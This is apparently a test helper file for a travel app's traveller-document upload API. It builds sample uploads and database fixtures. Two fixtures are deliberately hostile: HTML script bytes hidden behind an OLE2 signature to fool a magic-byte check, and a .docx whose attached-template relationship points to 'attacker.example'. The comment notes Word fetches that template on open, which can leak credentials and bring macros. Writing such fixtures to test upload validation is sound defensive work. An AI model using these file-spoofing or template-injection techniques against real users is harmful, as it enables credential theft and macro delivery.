import type { TravellerDocumentType } from '@voyage/domain';
import { asc, eq } from 'drizzle-orm';
import type { LightMyRequestResponse } from 'fastify';
import JSZip from 'jszip';
import type { Database } from '../../src/db/database.ts';
import { documents } from '../../src/db/schema/index.ts';
import * as corpus from '../files/corpus.ts';
import { insertStoredPdf, multipartBody, type Part, type StoreHolder } from '../files/upload-kit.ts';
import { expect } from 'vitest';
import type { TestApp } from '../helpers/test-app.ts';
import { approvedFamily, send } from '../payments/payment-kit.ts';
import { tripOfTraveller } from '../helpers/trip-of-traveller.ts';

export { approvedFamily, send };

export type UploadFile = Omit<Extract<Part, { bytes: unknown }>, 'name'>;

/** An upload as My Voyage sends it: the type first, then the file. */
export async function uploadDocument(
  t: TestApp,
  cookie: string,
  travellerId: string,
  type: string | undefined,
  file: UploadFile | undefined,
  { idempotencyKey }: { idempotencyKey?: string } = {},
): Promise<LightMyRequestResponse> {
  const parts: Part[] = [];
  if (type !== undefined) parts.push({ name: 'type', value: type });
  if (file) parts.push({ name: 'file', ...file });
  const { body, contentType } = multipartBody(parts);
  return t.app.inject({
    method: 'POST',
    url: `/api/my/travellers/${travellerId}/documents`,
    headers: {
      ...t.unsafeHeaders(cookie),
      'content-type': contentType,
      ...(idempotencyKey ? { 'idempotency-key': idempotencyKey } : {}),
    },
    payload: body,
  });
}

export async function passportJpeg(): Promise<UploadFile> {
  return { fileName: 'passport.jpg', bytes: await corpus.jpeg(), contentType: 'image/jpeg' };
}

export function consentPdf(): UploadFile {
  return { fileName: 'consent.pdf', bytes: corpus.pdf(), contentType: 'application/pdf' };
}

const OLE2_SIGNATURE = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);

/** The start of a Word 97–2003 file: the OLE2 compound file signature and a header's worth of bytes. */
export function wordDoc(): Buffer {
  const bytes = Buffer.alloc(1536, 0);
  OLE2_SIGNATURE.copy(bytes);
  bytes.write('Signed consent', 512, 'utf16le');
  return bytes;
}

/** A page of HTML with a script behind the eight bytes of an OLE2 signature: what a `.doc` check by magic accepts. */
export function htmlBehindOle2Signature(): Buffer {
  return Buffer.concat([OLE2_SIGNATURE, corpus.html]);
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>`;

/** A minimal .docx as Word writes one: `[Content_Types].xml` first, then the package and the document. */
export async function wordDocx({
  withDocument = true,
  externalTemplate = false,
}: { withDocument?: boolean; externalTemplate?: boolean } = {}): Promise<Buffer> {
  const zip = new JSZip();
  if (externalTemplate) {
    // Word fetches an attached template from its address when the file is opened (and sends the
    // network credentials a share asks for); the template may bring macros.
    zip.file(
      'word/_rels/settings.xml.rels',
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>',
    );
    zip.file(
      'word/settings.xml',
      '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
    );
  }
  zip.file('[Content_Types].xml', CONTENT_TYPES);
  zip.file(
    '_rels/.rels',
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
  );
  zip.file(
    withDocument ? 'word/document.xml' : 'word/styles.xml',
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Signed</w:t></w:r></w:p></w:body></w:document>',
  );
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

export function documentsOf(db: Database, travellerId: string) {
  return db
    .select()
    .from(documents)
    .where(eq(documents.travellerId, travellerId))
    .orderBy(asc(documents.uploadedAt), asc(documents.createdAt));
}

/** A document written straight to the database, with bytes in the store. */
export async function insertDocument(
  t: StoreHolder,
  travellerId: string,
  {
    type = 'passport',
    status = 'pending',
  }: { type?: TravellerDocumentType; status?: 'pending' | 'approved' | 'rejected' } = {},
): Promise<string> {
  const fileId = await insertStoredPdf(t, `${type}.pdf`);
  const [row] = await t.db
    .insert(documents)
    .values({ travellerId, tripId: tripOfTraveller(travellerId), type, status, fileId })
    .returning({ id: documents.id });
  return row!.id;
}

export function sendPut(t: TestApp, url: string, cookie: string, payload: object) {
  return t.app.inject({ method: 'PUT', url, headers: t.unsafeHeaders(cookie), payload });
}

/**
 * The seeded trip's documents (IDs and consents, accepted and waiting), and one traveller's of the other
 * kinds: one accepted and one rejected by staff (a reviewer's name), one withdrawn by the family.
 */
export async function queueWithEveryKind(t: TestApp, admin: string) {
  const { traveller } = await approvedFamily(t);
  const accepted = await insertDocument(t, traveller.id, { type: 'consent' });
  expect((await send(t, 'POST', `/api/admin/documents/${accepted}/accept`, admin)).statusCode).toBe(200);
  const rejected = await insertDocument(t, traveller.id);
  const reject = await send(t, 'POST', `/api/admin/documents/${rejected}/reject`, admin, { reason: 'Blurred' });
  expect(reject.statusCode, reject.body).toBe(200);
  const withdrawn = await insertDocument(t, traveller.id, { type: 'id_card' });
  await t.db.update(documents).set({ status: 'withdrawn' }).where(eq(documents.id, withdrawn));
  return { traveller, trip_id: String(traveller.tripId) };
}
